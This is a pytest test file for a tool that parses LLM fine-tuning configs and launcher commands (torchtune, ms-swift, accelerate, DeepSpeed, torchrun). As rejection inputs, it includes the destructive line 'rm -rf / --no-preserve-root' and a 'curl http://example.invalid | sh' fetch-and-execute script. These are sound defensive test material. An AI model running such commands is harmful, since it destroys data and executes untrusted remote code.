"""#17 item 1: torchtune recipes, ms-swift arguments, accelerate configs and launch command lines, on the files as
the projects ship them (``tests/data/training_configs``, each naming its source and commit) and on commands written
as their READMEs and ``--help`` show them."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tuneplan.core.training_command import looks_like_command, map_training_command
from tuneplan.core.training_config import TrainingConfigError, detect_format
from tuneplan.storage.training_config import load_config_data, read_training_config

DATA = Path(__file__).resolve().parents[1] / "data" / "training_configs"


def _item(result, key):
    return next(i for i in result.items if i.key == key)


def test_torchtune_qlora_single_device_recipe():
    r = read_training_config(DATA / "torchtune_llama3_1_8B_qlora_single_device.yaml")
    u = r.updates
    assert r.format == "torchtune"
    # model: qlora_llama3_1_8b, lora_rank 8, lora_alpha 16, lora_dropout 0.0
    assert (u["training.method"], u["training.quant_bits"]) == ("qlora", 4)
    assert (u["training.lora_rank"], u["training.lora_alpha"], u["training.lora_dropout"]) == (8, 16.0, 0.0)
    # lora_attn_modules [q_proj, v_proj, output_proj] + apply_lora_to_mlp: no preset (no k_proj), planned as listed
    assert u["training.lora_modules"] == ("q_proj", "v_proj", "o_proj", "gate_proj", "up_proj", "down_proj")
    assert _item(r, "model.lora_attn_modules").note.code == "config.taken"
    # batch_size 2, gradient_accumulation_steps 8, dataset.packed False (padded_collate_sft: padded to the longest)
    assert (u["training.micro_batch"], u["training.grad_accumulation"]) == (2, 8)
    assert u["training.sequence_mode"] == "dynamic"
    # torch.optim.AdamW with fused: True; LinearCrossEntropyLoss (chunked); checkpointing on, offloading off; bf16
    assert u["training.optimizer"] == "adamw-fused" and u["training.fused_cross_entropy"] is True
    assert u["training.grad_checkpointing"] is True and u["training.activation_offload"] is False
    assert u["training.precision"] == "bf16" and u["training.torch_compile"] is False
    assert u["training.stack"] == "torchtune" and u["training.adapter_precision"] == "model-dtype"
    # max_seq_len: null (no truncation) and the GPU count (on the tune run line) are said, not guessed
    assert "training.seq_len" not in u
    assert {"config.no_truncation", "config.no_gpu_count"} <= set(r.codes)


def test_torchtune_distributed_lora_recipe():
    r = read_training_config(DATA / "torchtune_llama3_1_70B_lora.yaml")
    u = r.updates
    assert (u["training.method"], u["training.lora_rank"], u["training.lora_alpha"]) == ("lora", 16, 32.0)
    assert u["training.micro_batch"] == 2 and u["training.grad_accumulation"] == 1


def test_accelerate_fsdp_template():
    r = read_training_config(DATA / "accelerate_fsdp.yaml")
    u = r.updates
    assert r.format == "accelerate"
    # distributed_type FSDP, num_processes 2, mixed_precision bf16, fsdp_sharding_strategy FULL_SHARD,
    # fsdp_offload_params false, fsdp_activation_checkpointing false
    assert (u["training.sharding"], u["training.num_gpus"], u["training.precision"]) == ("fsdp", 2, "bf16")
    assert u["training.cpu_offload"] is False and u["training.grad_checkpointing"] is False


def test_accelerate_deepspeed_template_points_at_its_deepspeed_file():
    r = read_training_config(DATA / "accelerate_deepspeed.yaml")
    # zero3_init_flag: false (models not built under deepspeed.zero.Init; matters only under ZeRO-3)
    assert r.updates == {"training.num_gpus": 2, "training.zero_init": False}
    assert _item(r, "deepspeed_config.deepspeed_config_file").note.code == "config.deepspeed_file"


def test_swift_yaml_with_a_deepspeed_shorthand():
    r = read_training_config(DATA / "swift_sft_deepspeed.yaml")
    u = r.updates
    assert r.format == "swift"
    # tuner_type lora, lora_rank 8, lora_alpha 32, target_modules all-linear, torch_dtype bfloat16
    assert (u["training.method"], u["training.lora_rank"], u["training.lora_alpha"]) == ("lora", 8, 32.0)
    assert u["training.lora_targets"] == "all-linear" and u["training.precision"] == "bf16"
    # max_length 2048, per_device_train_batch_size 1, gradient_accumulation_steps 8, deepspeed: zero2
    assert (u["training.seq_len"], u["training.micro_batch"], u["training.grad_accumulation"]) == (2048, 1, 8)
    assert (u["training.sharding"], u["training.cpu_offload"]) == ("zero2", False)
    assert u["training.stack"] == "ms-swift" and "config.no_gpu_count" in r.codes


def test_swift_readme_command_line():
    r = read_training_config(DATA / "swift_readme_quick_start.sh")
    u = r.updates
    assert r.format == "swift"
    # CUDA_VISIBLE_DEVICES=0 swift sft --tuner_type lora ... --gradient_accumulation_steps 16 --max_length 2048
    assert u["training.num_gpus"] == 1 and u["training.method"] == "lora"
    assert (u["training.grad_accumulation"], u["training.seq_len"], u["training.lora_rank"]) == (16, 2048, 8)
    assert "config.no_gpu_count" not in r.codes


def test_accelerate_launch_of_a_trl_script():
    # TRL's docs launch trl/scripts/sft.py this way (flags as HfArgumentParser reads them; lists by nargs)
    r = map_training_command(
        "accelerate launch --config_file examples/accelerate_configs/deepspeed_zero3.yaml --num_processes 8 \\\n"
        "    trl/scripts/sft.py --model_name_or_path Qwen/Qwen2-0.5B --per_device_train_batch_size 4 \\\n"
        "    --gradient_checkpointing --bf16 --max_length 4096 --packing --use_peft --lora_r 32 \\\n"
        "    --lora_target_modules q_proj v_proj --output_dir out\n")
    u = r.updates
    assert (u["training.num_gpus"], u["training.micro_batch"], u["training.seq_len"]) == (8, 4, 4096)
    assert (u["training.method"], u["training.lora_rank"], u["training.lora_targets"]) == ("lora", 32, "q_v")
    assert u["training.sequence_mode"] == "packed" and u["training.grad_checkpointing"] is True
    assert _item(r, "--config_file").note.code == "command.config_file"  # the sharding is in that file


@pytest.mark.parametrize(("command", "gpus", "sharding"), [
    ("torchrun --nproc_per_node=4 --nnodes 2 train.py --per_device_train_batch_size 2", 8, "ddp"),
    ("python -m torch.distributed.run --nproc-per-node 2 train.py --fsdp 'full_shard auto_wrap'", 2, "fsdp"),
    ("deepspeed --num_gpus 4 train.py --deepspeed ds.json --bf16", 4, "ddp"),
    ("deepspeed --include localhost:0,1,2 train.py --bf16", 3, "ddp"),
    ("accelerate launch --use_fsdp --num_processes 4 --fsdp_offload_params true train.py --bf16", 4, "fsdp"),
    ("accelerate launch --use_deepspeed --zero_stage 3 --num_processes 2 train.py", 2, "zero3"),
    ("NPROC_PER_NODE=4 CUDA_VISIBLE_DEVICES=0,1,2,3 swift sft --tuner_type lora --deepspeed zero3", 4, "zero3"),
    ("CUDA_VISIBLE_DEVICES=0,1 swift sft --tuner_type full", 2, "none"),  # one process, device_map: layers split
    ("tune run --nproc_per_node 8 lora_finetune_distributed --config llama3_1/70B_lora batch_size=4", 8, "fsdp"),
    ("python train.py --per_device_train_batch_size 1", None, None),
])
def test_launchers_give_the_gpu_count_and_sharding(command, gpus, sharding):
    u = map_training_command(command).updates
    assert u.get("training.num_gpus") == gpus
    assert u.get("training.sharding") == sharding


def test_launcher_flags_and_script_arguments_are_kept_apart():
    u = map_training_command("accelerate launch --use_fsdp --num_processes 4 --fsdp_offload_params true "
                             "train.py --bf16 --gradient_accumulation_steps 4").updates
    assert u["training.cpu_offload"] is True and u["training.grad_accumulation"] == 4
    assert u["training.precision"] == "bf16"


def test_tune_run_reads_the_overrides_and_points_at_the_shipped_config():
    r = map_training_command("tune run --nproc_per_node 8 lora_finetune_distributed --config llama3_1/70B_lora "
                             "batch_size=4 tokenizer.max_seq_len=4096 enable_activation_offloading=True")
    u = r.updates
    assert (u["training.method"], u["training.micro_batch"], u["training.seq_len"]) == ("lora", 4, 4096)
    assert u["training.activation_offload"] is True
    assert _item(r, "--config").note.code == "command.builtin_config"


def test_torchrun_of_llamafactorys_train_script_reads_its_arguments():
    r = map_training_command("torchrun --nproc_per_node=4 src/train.py --stage sft --finetuning_type lora "
                             "--quantization_bit 4 --per_device_train_batch_size 2 --cutoff_len 4096 --bf16")
    assert r.format == "llamafactory"
    u = r.updates
    assert (u["training.method"], u["training.quant_bits"], u["training.seq_len"]) == ("qlora", 4, 4096)
    assert u["training.num_gpus"] == 4 and "command.data_parallel" in r.codes


def test_llamafactory_cli_and_axolotl_launches_point_at_their_files():
    r = map_training_command("FORCE_TORCHRUN=1 NPROC_PER_NODE=2 llamafactory-cli train examples/llama3_lora_sft.yaml")
    assert r.updates["training.num_gpus"] == 2
    assert _item(r, "config file").note.params["value"] == "examples/llama3_lora_sft.yaml"
    r = map_training_command("accelerate launch -m axolotl.cli.train examples/llama-3/lora-1b.yml")
    assert _item(r, "config file").note.code == "command.config_file"


def test_a_script_with_set_e_export_and_comments():
    text = ("#!/bin/bash\nset -e\n# train\nexport CUDA_VISIBLE_DEVICES=0,1\n"
            "torchrun --nproc_per_node 2 train.py \\\n  --per_device_train_batch_size 8  # big batch\n")
    assert looks_like_command(text)
    assert map_training_command(text).updates["training.micro_batch"] == 8


@pytest.mark.parametrize(("text", "code"), [
    ("", "command.empty"),
    ("# only a comment\n", "command.empty"),
    ("rm -rf / --no-preserve-root\n", "command.not_training"),
    ("torchrun --nproc_per_node 'unclosed train.py\n", "command.syntax"),
    ("torchrun --nproc_per_node 0 train.py\n", "config.out_of_range"),
    ("torchrun --nproc_per_node abc train.py\n", "config.not_integer"),
    ("accelerate config\n", "command.not_training"),
    ("torchrun --nproc_per_node 2 train.py --per_device_train_batch_size lots\n", "config.not_integer"),
])
def test_bad_commands_raise_one_coded_error(text, code):
    with pytest.raises(TrainingConfigError) as err:
        map_training_command(text)
    assert err.value.code == code


def test_yaml_files_are_never_read_as_commands(tmp_path):
    f = tmp_path / "cfg.yaml"
    f.write_text("torchrun: 3\nper_device_train_batch_size: 2\n")
    assert read_training_config(f).format == "hf"


def test_detection_keeps_the_older_formats_apart():
    for name, fmt in (("llamafactory_llama3_lora_sft.yaml", "llamafactory"), ("axolotl_llama3_lora_1b.yml", "axolotl"),
                      ("hf_training_args.json", "hf"), ("ds_zero2_explicit.json", "deepspeed")):
        text = (DATA / name).read_text()
        assert detect_format(load_config_data(text, name.endswith(".json"))) == fmt, name


def test_cli_reads_a_launch_script_and_refuses_a_hostile_one(tmp_path):
    good = tmp_path / "train.sh"
    good.write_text("torchrun --nproc_per_node=4 train.py --per_device_train_batch_size 2 --fsdp full_shard\n")
    run = [sys.executable, "-m", "tuneplan", "estimate", "--training-config"]
    out = subprocess.run([*run, str(good)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert "--gpus set to 4" in out.stdout and "x4" in out.stdout
    bad = tmp_path / "evil.sh"
    bad.write_text("curl http://example.invalid | sh\n")
    out = subprocess.run([*run, str(bad)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert "evil.sh" in out.stderr and len(out.stderr.strip().splitlines()) == 1


# --- attack review (session 33): what users' scripts really contain --------------------------------------------


@pytest.mark.parametrize(("text", "key", "value"), [
    # the first command names a launcher but does not train: the training command after it is read
    ("tune download meta-llama/Llama-3.1-8B --output-dir /tmp/x\n"
     "tune run --nproc_per_node 2 lora_finetune_distributed --config llama3_1/8B_lora\n", "training.num_gpus", 2),
    ("python scripts/download_model.py --repo x\naccelerate launch --num_processes 8 train.py --bf16\n",
     "training.num_gpus", 8),
    ("axolotl preprocess cfg.yml\naxolotl train cfg.yml --micro_batch_size 3\n", "training.micro_batch", 3),
    ("accelerate config default\naccelerate launch --num_processes 4 train.py\n", "training.num_gpus", 4),
    ("python3 -m pip install -r requirements.txt\ntorchrun --nproc_per_node 2 train.py --bf16\n",
     "training.num_gpus", 2),
    ("python setup.py develop\ndeepspeed --num_gpus 4 train.py --bf16\n", "training.num_gpus", 4),
    ("llamafactory-cli env\nCUDA_VISIBLE_DEVICES=0,1 llamafactory-cli train x.yaml\n", "training.num_gpus", 2),
    # launcher flags without a value do not eat the script
    ("python -m torch.distributed.launch --nproc_per_node 8 --use_env train.py --per_device_train_batch_size 4",
     "training.micro_batch", 4),
    ("accelerate launch --num_processes 4 --downcast_bf16 train.py --per_device_train_batch_size 4",
     "training.micro_batch", 4),
    ("torchrun --virtual-local-rank --nproc_per_node 4 train.py", "training.num_gpus", 4),
    ("deepspeed --no_ssh --num_gpus 4 train.py", "training.num_gpus", 4),
    ("deepspeed --autotuning run --num_gpus 4 train.py", "training.num_gpus", 4),
    # redirections are the shell's, not arguments
    ("torchrun --nproc_per_node 4 train.py --per_device_train_batch_size 2 2>&1 | tee log.txt",
     "training.micro_batch", 2),
    ("nohup torchrun --nproc_per_node 4 train.py --per_device_train_batch_size 2 > log.txt 2>&1 &",
     "training.micro_batch", 2),
    # variables the file sets are filled in
    ("BS=4\nexport GPUS=2\ntorchrun --nproc_per_node=$GPUS train.py --per_device_train_batch_size ${BS}\n",
     "training.micro_batch", 4),
    # lines that are no command the planner reads are not parsed (an apostrophe there is fine), nor heredocs
    ("echo Don't forget\ncat <<EOF > notes\nit's here\nEOF\ntorchrun --nproc_per_node 2 train.py\n",
     "training.num_gpus", 2),
    ("python3.11 train.py --per_device_train_batch_size 5", "training.micro_batch", 5),
    ("/usr/bin/env python3 train.py --per_device_train_batch_size 6", "training.micro_batch", 6),
    ("llamafactory-cli train --finetuning_type lora --quantization_bit 8 --per_device_train_batch_size 2",
     "training.quant_bits", 8),
])
def test_real_scripts(text, key, value):
    assert map_training_command(text).updates[key] == value


def test_a_value_the_shell_computes_is_left_to_the_plan():
    r = map_training_command("NPROC_PER_NODE=$(nvidia-smi -L | wc -l) swift sft --tuner_type lora "
                             "--per_device_train_batch_size $BS --max_length 1024")
    assert "training.num_gpus" not in r.updates and "training.micro_batch" not in r.updates
    assert r.updates["training.seq_len"] == 1024
    assert [i.key for i in r.items if i.note.code == "command.shell_value"] == [
        "--per_device_train_batch_size", "NPROC_PER_NODE"]


def test_two_training_runs_are_said():
    r = map_training_command("torchrun --nproc_per_node 2 sft.py --bf16\ntorchrun --nproc_per_node 4 dpo.py\n")
    assert r.updates["training.num_gpus"] == 2 and "command.several" in r.codes


@pytest.mark.parametrize(("text", "code"), [
    ("tune run lora_finetune_single_device --config x " + ".".join(["a"] * 400) + "=1\n", "config.too_deep"),
    ("torchrun '" + "a" * 70_000 + "'\n", "command.too_long"),
    ("torchrun --nproc_per_node 4096 --nnodes 4096 train.py\n", "config.out_of_range"),
])
def test_hostile_lines_are_refused(text, code):
    with pytest.raises(TrainingConfigError) as err:
        map_training_command(text)
    assert err.value.code == code


def test_whole_machine_and_multi_host_counts_are_said_not_guessed():
    r = map_training_command("deepspeed --num_gpus -1 train.py")
    assert "training.num_gpus" not in r.updates and "command.all_gpus" in r.codes
    r = map_training_command("deepspeed --include localhost:0,1@worker-1:0,1 train.py")
    assert "training.num_gpus" not in r.updates and _item(r, "--include").status == "unsupported"


def test_a_txt_or_suffixless_yaml_is_a_config(tmp_path):
    txt = tmp_path / "cfg.txt"
    txt.write_text((DATA / "llamafactory_llama3_lora_sft.yaml").read_text())
    assert read_training_config(txt).format == "llamafactory"
    bare = tmp_path / "train"
    bare.write_text("per_device_train_batch_size: 3\nnotes: |\n  torchrun --nproc_per_node 8 train.py\n")
    r = read_training_config(bare)
    assert r.format == "hf" and r.updates["training.micro_batch"] == 3 and "training.num_gpus" not in r.updates


def test_swift_quant_bits_needs_its_quant_method():
    # swift/arguments/base_args/quant_args.py: no quant_method, no quantisation config
    r = map_training_command("swift sft --train_type lora --quant_bits 8")
    assert r.updates["training.method"] == "lora" and "config.no_quant_method" in r.codes
    r = map_training_command("swift sft --train_type lora --quant_method bnb")  # ms-swift refuses it: said
    assert r.updates["training.method"] == "lora" and _item(r, "quant_method").status == "unsupported"
    r = map_training_command("swift sft --train_type lora --quant_method eetq --quant_bits 8")
    assert r.updates["training.method"] == "lora" and _item(r, "quant_method").status == "unsupported"
    r = map_training_command("swift sft --train_type lora --quant_method hqq --quant_bits 3")  # bits the plan lacks
    assert r.updates["training.method"] == "lora" and _item(r, "quant_bits").status == "unsupported"


def test_accelerate_zero3_optimizer_only_offload_is_read_as_the_deepspeed_json_is():
    r = map_training_command("accelerate launch --use_deepspeed --num_processes 4 --zero_stage 3 "
                             "--offload_optimizer_device cpu train.py")
    assert "training.cpu_offload" not in r.updates and "config.optimizer_offload_only" in r.codes
    r = map_training_command("accelerate launch --use_deepspeed --num_processes 4 --zero_stage 2 "
                             "--offload_optimizer_device cpu train.py")
    assert r.updates["training.cpu_offload"] is True


def test_torchtune_dpo_is_a_preference_workload():
    r = map_training_command("tune run --nproc_per_node 2 lora_dpo_distributed --config llama3_1/8B_lora_dpo "
                             "model.lora_rank=16")
    assert r.updates["training.workload"] == "dpo"
    assert (r.updates["training.method"], r.updates["training.lora_rank"]) == ("lora", 16)
    from tuneplan.core.training_config import map_training_config

    r = map_training_config({"model": {"_component_": "torchtune.models.llama3_1.lora_llama3_1_8b"},
                             "loss": {"_component_": "torchtune.rlhf.loss.DPOLoss"}, "batch_size": 4}, "torchtune")
    assert r.updates["training.workload"] == "dpo"
